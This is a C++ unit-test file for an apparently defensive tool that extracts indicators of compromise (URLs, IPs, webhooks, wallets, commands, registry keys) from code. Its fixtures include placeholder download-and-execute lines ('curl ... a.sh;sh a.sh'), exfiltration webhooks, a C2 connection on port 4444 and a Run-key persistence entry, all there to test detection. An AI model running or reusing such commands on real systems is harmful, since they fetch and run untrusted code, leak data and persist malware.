#include "interpret/indicators.h"

#include <gtest/gtest.h>

#include <string>

namespace antivenom::interpret {
namespace {

// Hosts that are nobody's, but of no range that counts as harmless: too short for an onion service, or of the abandoned
// 192.88.99.0/24 (RFC 7526).

Argument text_argument(std::string text, std::string type = "str") {
  Argument a;
  a.text = std::move(text);
  a.type = std::move(type);
  a.known = Known::exact;
  return a;
}

Event event_with(EffectSet effects, std::vector<Argument> args, uint32_t line = 1) {
  Event e;
  e.effects = effects;
  e.args = std::move(args);
  e.place = {0, 0, line, line};
  return e;
}

std::string listed(const Facts& facts) {
  std::string out;
  for (const Indicator& i : facts.indicators)
    out += i.type + ' ' + i.value + " @" + std::to_string(i.place.line) + (i.benign_looking ? " benign\n" : "\n");
  return out;
}

void collect_indicators(Facts& facts, const std::vector<SourceText>& texts) {
  IndicatorCollector collector(facts);
  for (const SourceText& text : texts) collector.add_text(text);
}

std::string in_texts(std::vector<std::string> texts, bool literal = true) {
  Facts facts;
  std::vector<SourceText> sources;
  uint32_t line = 0;
  for (const std::string& text : texts) {
    ++line;
    sources.push_back({0, 0, line, literal ? line : line + 1'000, text, literal});
  }
  collect_indicators(facts, sources);
  return listed(facts);
}

TEST(indicators, urls_end_where_their_spelling_ends) {
  EXPECT_EQ(in_texts({"see (http://192.0.2.7:8080/a_(b).bin), or 'https://u:p@c2.example.com/x?a=1;b=2'."}),
            "url http://192.0.2.7:8080/a_(b).bin @1 benign\nip 192.0.2.7 @1 benign\n"
            "url https://u:p@c2.example.com/x?a=1;b=2 @1 benign\n");
  EXPECT_EQ(in_texts({"curl http://c2.bad-host.onion/a.sh;sh a.sh", "wget http://c2.bad-host.onion/b&&sh b"}),
            "url http://c2.bad-host.onion/a.sh @1\ndomain c2.bad-host.onion @1\nurl http://c2.bad-host.onion/b @2\n");
  EXPECT_EQ(in_texts({"http://[2001:db8::1]:80/x", "http://3221225994/x"}),
            "url http://[2001:db8::1]:80/x @1 benign\nip 2001:db8::1 @1 benign\nurl http://3221225994/x @2\n");
}

TEST(indicators, defanged_spellings_are_kept) {
  EXPECT_EQ(
      in_texts({"hxxps://evil[.]bad-host[.]onion/x", "or evil2[.]bad-host[.]onion", "hxxp[:]//192[.]0[.]2[.]1/"}),
      "url hxxps://evil[.]bad-host[.]onion/x @1\ndomain evil.bad-host.onion @1\ndomain evil2[.]bad-host[.]onion @2\n"
      "url hxxp[:]//192[.]0[.]2[.]1/ @3 benign\nip 192.0.2.1 @3 benign\n");
}

TEST(indicators, a_hole_leaves_the_host) {
  EXPECT_EQ(
      in_texts({"https://c2.bad-host.onion/{name}/x", "https://{host}/x", "https://c2.{tld}/", "https://%s.bad/"}),
      "domain c2.bad-host.onion @1\n");
  EXPECT_EQ(in_texts({"https?://[\\w.]+/x", "https://*.bad-host.onion", "https://"}), "");
}

TEST(indicators, addresses_are_told_from_versions) {
  EXPECT_EQ(
      in_texts({"192.88.99.123:4444", "__version__ = 192.88.99.123", "1.2.3.4", "v192.88.99.12", "Chrome/91.0.44.124",
                "x==192.88.99.10", "10.0.0.0/8", "300.1.1.1", "192.88.99.11.5", "192.88.99.30."}),
      "ip 192.88.99.123 @1\nip 1.2.3.4 @3 benign\nip 192.88.99.30 @10\n");
  EXPECT_EQ(
      in_texts({"192.168.1.1", "127.0.0.1", "169.254.169.254", "2002:c058:6301::8888"}),
      "ip 192.168.1.1 @1 benign\nip 127.0.0.1 @2 benign\nip 169.254.169.254 @3 benign\nip 2002:c058:6301::8888 @4\n");
}

TEST(indicators, hosts_of_literals_and_of_network_calls) {
  EXPECT_EQ(in_texts({"c2.bad-host.onion", "os.path", "main.py", "self.name", "smtp.example.com", "config.in"}),
            "domain c2.bad-host.onion @1\ndomain smtp.example.com @5 benign\n");
  Facts facts;
  facts.events.push_back(event_with({Effect::net_connect}, {text_argument("('c2.bad-host.onion', 4444)", "tuple")}, 3));
  facts.events.push_back(event_with({Effect::read_file}, {text_argument("c2.other-host.onion")}, 4));
  collect_indicators(facts, {});
  EXPECT_EQ(listed(facts), "domain c2.bad-host.onion @3\n");
}

TEST(indicators, webhooks_and_mail) {
  EXPECT_EQ(in_texts({"https://discord.com/api/webhooks/0/x", "https://api.telegram.org/bot1:x/sendMessage",
                      "mail thief@bad-host.onion, me@example.org", "@app.route", "icon@2x.png"}),
            "webhook https://discord.com/api/webhooks/0/x @1\nwebhook https://api.telegram.org/bot1:x/sendMessage @2\n"
            "email thief@bad-host.onion @3\nemail me@example.org @3 benign\n");
}

TEST(indicators, wallets_need_their_checksum) {
  // The addresses of BIP 173, of the first block of Bitcoin and of EIP 55; a changed letter breaks the checksum.
  EXPECT_EQ(in_texts({"BC1 bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5",
                      "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb",
                      "0x0000000000000000000000000000000000000000", "0x52908400098527886E0F7030069857D2E4169EE7"}),
            "wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 @1\nwallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa @3\n"
            "wallet 0x52908400098527886E0F7030069857D2E4169EE7 @6\n");
}

TEST(indicators, wallets_are_found_at_every_position) {
  const std::string wallet = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa";
  for (size_t before = 0; before < 80; ++before) {
    for (const char* word : {" ", "a ", "ab cd:"}) {
      std::string text;
      while (text.size() < before) text += word;
      text.resize(before);
      if (!text.empty()) text.back() = ' ';
      EXPECT_EQ(in_texts({text + wallet}), "wallet " + wallet + " @1\n") << text;
      EXPECT_EQ(in_texts({text + wallet + " " + text}), "wallet " + wallet + " @1\n") << text;
    }
  }
}

TEST(indicators, commands_packages_paths_and_keys) {
  Facts facts;
  facts.events.push_back(
      event_with({Effect::run_process},
                 {text_argument("['python', '-m', 'pip', 'install', '-q', 'left==1.0', 'right']", "list")}, 2));
  facts.events.push_back(event_with({Effect::write_file}, {text_argument("%TEMP%\\x.exe"), text_argument("wb")}, 3));
  facts.events.push_back(event_with({Effect::read_file}, {text_argument("data/words.txt")}, 4));
  facts.events.push_back(
      event_with({Effect::write_registry},
                 {text_argument("{winreg.HKEY_CURRENT_USER}", ""), text_argument("Software\\X\\Run")}, 5));
  facts.events.push_back(event_with({Effect::run_shell}, {text_argument("reg add HKCU\\Software\\Y Z /v a")}, 6));
  collect_indicators(facts, {});
  EXPECT_EQ(listed(facts),
            "command python -m pip install -q left==1.0 right @2\npackage left @2\npackage right @2\n"
            "path %TEMP%\\x.exe @3\nregistry-key HKEY_CURRENT_USER\\Software\\X\\Run @5\n"
            "registry-key HKCU\\Software\\Y Z @6\ncommand reg add HKCU\\Software\\Y Z /v a @6\n");
}

TEST(indicators, a_webhook_ends_where_no_address_goes_on) {
  EXPECT_EQ(in_texts({"https://discord.com/api/webhooks/1/abc\xc3\x9a\x03"}, false),
            "webhook https://discord.com/api/webhooks/1/abc @1\n");
}

TEST(indicators, what_describes_the_package_looks_benign) {
  Facts facts;
  facts.package.home_page = "https://docs.bad-host.onion";
  const std::vector<SourceText> sources{{0, 0, 1, 1, "https://docs.bad-host.onion/install"},
                                        {0, 0, 2, 2, "http://www.w3.org/2000/svg"},
                                        {0, 0, 3, 3, "https://github.com/x/y/issues"},
                                        {0, 0, 4, 4, "https://github.com/x/y/raw/main/z.bin"},
                                        {0, 0, 5, 5, "https://raw.githubusercontent.com/x/y/z"}};
  collect_indicators(facts, sources);
  EXPECT_EQ(listed(facts),
            "url https://docs.bad-host.onion/install @1 benign\nurl http://www.w3.org/2000/svg @2 benign\n"
            "url https://github.com/x/y/issues @3 benign\nurl https://github.com/x/y/raw/main/z.bin @4\n"
            "url https://raw.githubusercontent.com/x/y/z @5\n");
}

TEST(indicators, lines_are_counted_in_layers_only) {
  EXPECT_EQ(in_texts({"a\nb http://c2.bad-host.onion/\n"}, true),
            "url http://c2.bad-host.onion/ @1\ndomain c2.bad-host.onion @1\n");
  EXPECT_EQ(in_texts({"a\nb http://c2.bad-host.onion/\n"}, false),
            "url http://c2.bad-host.onion/ @2\ndomain c2.bad-host.onion @2\n");
}

TEST(indicators, hostile_texts_cost_no_more) {
  for (std::string_view piece :
       {"//", "http://", "://:", "[.]", "@", "1.", "a@", "HKLM\\", "http://[", "1.1.1.1", "bc1", "{"}) {
    std::string text;
    while (text.size() < 300'000) text += piece;
    Facts facts;
    const std::vector<SourceText> sources{{0, 0, 1, 1, text}};
    collect_indicators(facts, sources);
    EXPECT_LE(facts.indicators.size(), 2'000u);
  }
}

}  // namespace
}  // namespace antivenom::interpret
